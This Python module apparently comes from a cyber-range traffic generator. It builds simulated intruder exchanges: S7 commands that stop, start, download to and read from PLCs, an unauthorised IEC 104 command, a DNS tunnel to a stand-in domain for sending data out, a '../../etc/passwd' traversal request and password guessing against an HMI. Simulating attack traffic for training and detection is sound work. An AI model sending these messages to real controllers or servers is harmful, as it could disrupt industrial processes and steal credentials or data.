"""What an intruder says: the exchanges that benign peers never have."""

from __future__ import annotations

import struct

from scapy.contrib.scada.iec104 import IEC104_IO_C_SC_NA_1_IOA, IEC104_S_Message
from scapy.layers.dns import DNS, DNSQR

from cyber_range.engine.traffic.declaring.industrial import OPENING_104, S7_REFERENCE, _asdu, _counted
from cyber_range.engine.traffic.declaring.layers import s7_telegram
from cyber_range.engine.traffic.declaring.office import filler
from cyber_range.engine.traffic.declaring.speech import answers, says, tcp, udp
from cyber_range.engine.traffic.templates import Maker, Piece, Var

PROGRAM = b"\x09P_PROGRAM"
BLOCK = b"_0800001P"  # organisation block 1, passive


def s7_stop(name: str) -> Piece:
    """PLC stop (0x29)."""
    return tcp(name, [
        says(s7_telegram(1, b"\x29" + bytes(5) + PROGRAM), S7_REFERENCE, gap=0),
        answers(s7_telegram(3, b"\x29"), S7_REFERENCE),
    ])  # fmt: skip


def s7_start(name: str) -> Piece:
    """PLC warm start (0x28)."""
    return tcp(name, [
        says(s7_telegram(1, b"\x28" + bytes(6) + b"\xfd\0\0" + PROGRAM), S7_REFERENCE, gap=0),
        answers(s7_telegram(3, b"\x28"), S7_REFERENCE),
    ])  # fmt: skip


def s7_download(name: str, size: int = 208) -> Piece:
    """A program block goes into the controller: request (0x1A), the controller fetches (0x1B), ends (0x1C), insert (0x28)."""
    lengths = b"\x0d1" + f"{size:06d}{size - 98:06d}".encode()
    fetch = b"\x1b" + bytes.fromhex("00000000000000") + b"\x09" + BLOCK
    end = b"\x1c" + bytes.fromhex("00000000000000") + b"\x09" + BLOCK
    code = struct.pack(">HH", size, 0x00FB) + bytes(size)
    insert = b"\x28" + bytes(6) + b"\xfd\0\x0a\x01\0" + b"0800001P" + b"\x05_INSE"
    at = 4 + 3 + 12 + 2 + 4
    return tcp(name, [
        says(s7_telegram(1, b"\x1a\0\x01\0\0\0\0\0\x09" + BLOCK + lengths), S7_REFERENCE, gap=0),
        answers(s7_telegram(3, b"\x1a"), S7_REFERENCE),
        answers(s7_telegram(1, fetch, reference=0x0300), gap=2000),
        says(s7_telegram(3, b"\x1b\0", code, reference=0x0300), Var("random", at, size), gap=900),
        answers(s7_telegram(1, end, reference=0x0301), gap=2000),
        says(s7_telegram(3, b"\x1c", reference=0x0301), gap=500),
        says(s7_telegram(1, insert, reference=0x0400), gap=1500),
        answers(s7_telegram(3, b"\x28", reference=0x0400), gap=4000),
    ])  # fmt: skip


def s7_upload(name: str, size: int = 200) -> Piece:
    """The controller's program is read out: start (0x1D), part (0x1E), end (0x1F)."""
    handle = bytes.fromhex("00000001")
    data = struct.pack(">HH", size, 0x00FB) + bytes(size)
    at = 4 + 3 + 12 + 2 + 4
    return tcp(name, [
        says(s7_telegram(1, b"\x1d" + bytes(7) + b"\x09" + b"_0800001A"), S7_REFERENCE, gap=0),
        answers(s7_telegram(3, b"\x1d\0\x01\0" + handle + b"\x07" + f"{size:07d}".encode()), S7_REFERENCE),
        says(s7_telegram(1, b"\x1e\0\0\0" + handle, reference=0x0300), gap=700),
        answers(s7_telegram(3, b"\x1e\0", data, reference=0x0300), Var("random", at, size)),
        says(s7_telegram(1, b"\x1f\0\0\0" + handle, reference=0x0301), gap=700),
        answers(s7_telegram(3, b"\x1f", reference=0x0301)),
    ])  # fmt: skip


def iec104_command(name: str, address: int = 3000, state: int = 0, common: int = 1) -> Piece:
    """A single command (C_SC_NA_1) from a master nobody appointed, confirmed and ended; after `iec104_start`."""
    io = IEC104_IO_C_SC_NA_1_IOA(information_object_address=address, scs=state)
    ask, confirm, end = (bytes(_asdu(io, cause, common=common)) for cause in (6, 7, 10))
    down = (Var("count", 2, 2, add=1, modulo=1 << 15, shift=1, little=True), _twice(4, 0))
    return tcp(name, [
        says(ask, *down, gap=0),
        answers(confirm, _twice(2, 0), _counted(4, 2)),
        answers(end, _twice(2, 1), _counted(4, 2), gap=600),
        says(bytes(IEC104_S_Message(rx_seq_num=0)), _twice(4, 2), gap=700),
    ])  # fmt: skip


def _twice(at: int, more: int) -> Var:
    """The station's number: it sends two frames for every command."""
    return Var("count", at, 2, add=OPENING_104 + more, modulo=1 << 15, shift=1, little=True, step=2)


def dns_tunnel(name: str, domain: str = "cdn-sync.example", size: int = 44) -> Piece:
    """Data in a label of the question, orders in a TXT answer."""
    raw = f"{'0' * size}.{domain}"
    ask = bytearray(bytes(DNS(id=0, rd=1, qd=DNSQR(qname=raw, qtype="TXT"))))
    record = (
        b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 1, 25) + b"\x18" + bytes(24)
    )  # the name points back (RFC 1035, 4.1.4)
    tell = bytearray(bytes(DNS(id=0, qr=1, rd=1, ra=1, qd=DNSQR(qname=raw, qtype="TXT"), ancount=1)) + record)
    label = 12 + 1
    for said in (ask, tell):
        said[label : label + size] = bytes(size)
    count = Var("count", 0, 2, modulo=1 << 16, based=True)
    code = Var("spelled", label, size)  # question and answer carry the same letters
    return udp(name, [
        says(bytes(ask), count, code, gap=0),
        answers(bytes(tell), count, code, Var("letters", len(tell) - 24, 24), gap=35000),
    ])  # fmt: skip


def web_probe(
    name: str, path: str = "/cgi-bin/export?file=../../etc/passwd", host: str = "hmi", found: bool = True
) -> Piece:
    """A request that climbs out of the web root."""
    ask = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"
    body = filler("probe", 620) if found else b"not found"
    status = "200 OK" if found else "404 Not Found"
    tell = f"HTTP/1.1 {status}\r\nServer: mini-httpd\r\nContent-Type: text/plain\r\nContent-Length: {len(body)}\r\n\r\n"
    return tcp(name, [says(ask.encode(), gap=200), answers(tell.encode() + body, gap=4000)])


def web_login(name: str, path: str = "/login", host: str = "hmi", user: str = "admin", right: bool = False) -> Piece:
    """A password is tried; its letters vary."""
    form = f"user={user}&password="
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: python-requests/2.31\r\n"
        f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form) + 8}\r\n\r\n{form}"
    )
    status = "302 Found\r\nLocation: /" if right else "401 Unauthorized"
    tell = f"HTTP/1.1 {status}\r\nContent-Length: 0\r\n\r\n"
    return tcp(name, [says(head.encode() + bytes(8), Var("letters", len(head), 8), gap=200), answers(tell.encode())])


MAKERS: dict[str, Maker] = {
    "s7_stop": s7_stop, "s7_start": s7_start, "s7_download": s7_download, "s7_upload": s7_upload,
    "iec104_command": iec104_command, "dns_tunnel": dns_tunnel, "web_probe": web_probe, "web_login": web_login,
}  # fmt: skip
